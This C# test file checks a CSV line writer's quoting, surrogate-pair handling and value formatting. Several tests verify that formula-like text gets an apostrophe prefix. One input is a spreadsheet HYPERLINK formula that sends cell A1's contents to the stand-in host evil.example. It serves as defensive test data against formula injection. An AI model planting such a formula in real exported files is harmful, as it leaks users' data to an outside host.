using System.Buffers;
using System.Text;
using Pazar.Kernel;

namespace Pazar.Http.Tests;

public sealed class CsvLinesTests
{
    [Theory]
    [InlineData("plain", "plain")]
    [InlineData("", "")]
    [InlineData("a, b", "\"a, b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("two\r\nlines", "\"two\r\nlines\"")]
    [InlineData("Çay – 漢", "\"Çay – 漢\"")]
    public void A_text_is_quoted_where_it_must_be(string text, string cell) => Assert.Equal($"{cell}\r\n", LineOf(line => line.Text(text)));

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("\n=1")]
    [InlineData("＝1")]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")")]
    public void A_text_that_a_spreadsheet_would_take_for_a_formula_begins_with_an_apostrophe(string text)
    {
        var cell = LineOf(line => line.Text(text))[..^2].Trim('"').Replace("\"\"", "\"", StringComparison.Ordinal);
        Assert.Equal($"'{text}".TrimEnd('"'), cell);
    }

    [Fact]
    public void A_letter_of_two_halves_stays_whole_wherever_in_a_line_it_stands()
    {
        var faces = string.Concat(Enumerable.Repeat("😀", 5_000));
        for (var before = 0; before < 2; before++)
        {
            var text = new string('a', before) + faces;
            Assert.Equal($"{text}\r\n", LineOf(line => line.Text(text)));
            Assert.Equal($"{text},{text}\r\n", LineOf(line => line.Text(text).Text(text)));
        }
    }

    [Fact]
    public void What_the_program_writes_is_as_it_is_and_what_is_missing_is_empty() => Assert.Equal(
        "12.50,,true,2026-11-21T09:30:00.000000Z,,-7,\r\n",
        LineOf(line => line.Amount(new Money(1_250)).Amount(null).Flag(true).Time(new DateTimeOffset(2026, 11, 21, 11, 30, 0, TimeSpan.FromHours(2))).Time(null).Value(-7).Value(null)));

    private static string LineOf(Action<CsvLines> write)
    {
        ArrayBufferWriter<byte> output = new();
        CsvLines lines = new(output);
        write(lines);
        lines.End();
        return Encoding.UTF8.GetString(output.WrittenSpan);
    }
}
